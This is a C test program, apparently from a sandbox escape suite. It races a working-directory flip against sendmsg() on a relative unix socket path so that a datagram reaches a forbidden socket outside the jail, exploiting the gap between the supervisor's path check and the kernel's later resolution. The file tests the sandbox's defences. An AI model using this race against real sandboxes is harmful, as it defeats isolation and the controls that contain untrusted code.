/* e0110-toctou-sendmsg-unix-cwd - e0108's relative unix socket path, as
 * the msg_name of sendmsg() on a datagram socket.
 *
 * Attack: sendmsg() to the relative path "../FORBIDDEN" (FORBIDDEN without
 * its leading "/") while another thread switches the working directory
 * between a directory of the jail, where that path names a datagram
 * socket of the program's own, and /usr, where it names the forbidden
 * socket (a listener outside the jail that counts datagrams).  The
 * supervisor resolves msg_name against the cwd it sees when it checks;
 * the kernel against the cwd of the moment.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (relative paths and the
 * working directory); doc/races.md section 3 (msg_name of sendmsg is
 * copied as given).
 * Usage: e0110-toctou-sendmsg-unix-cwd FORBIDDEN-SOCKET   (absolute) */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

static int fd_own, fd_usr;
static volatile int stop;

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0110-toctou-sendmsg-unix-cwd FORBIDDEN-SOCKET");
	const char *forbidden = argv[1];
	char rel[PATH_MAX], own[PATH_MAX];
	/* From e0110/sub, "../X" is e0110/X: a socket of ours there. */
	esc_cwd_race_paths("e0110", forbidden, rel, own, sizeof rel);
	struct sockaddr_un sa;
	socklen_t len = esc_unix_addr(&sa, own);
	int mine = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (mine < 0 || bind(mine, (struct sockaddr *)&sa, len) < 0)
		esc_die("bind our own socket");
	fd_own = open("e0110/sub", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	fd_usr = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd_own < 0 || fd_usr < 0)
		esc_die("open the two working directories");
	if (fchdir(fd_own) < 0)
		esc_die("fchdir");
	int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		esc_die("socket");
	len = esc_unix_addr(&sa, rel);
	struct iovec iov = { (void *)"x", 1 };
	struct msghdr m = { .msg_name = &sa, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1 };
	pthread_t ts;
	struct esc_flipper flip = { fd_usr, fd_own, &stop };
	if (pthread_create(&ts, NULL, esc_cwd_flipper, &flip) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long sent = 0, refused = 0;
	int last = 0;
	char drain[16];
	esc_race_init(&r);
	while (esc_race_go(&r)) {
		if (sendmsg(s, &m, MSG_DONTWAIT) >= 0) {
			sent++;
		} else {
			refused++;
			last = errno;
		}
		while (recv(mine, drain, sizeof drain, MSG_DONTWAIT) > 0)
			;
	}
	printf("sendmsg race: %ld tries, %ld sent, %ld refused%s%s\n", r.tries, sent, refused,
	       refused ? ", last " : "", refused ? esc_errno_name(last) : "");
	stop = 1;
	pthread_join(ts, NULL);
	return 0;
}
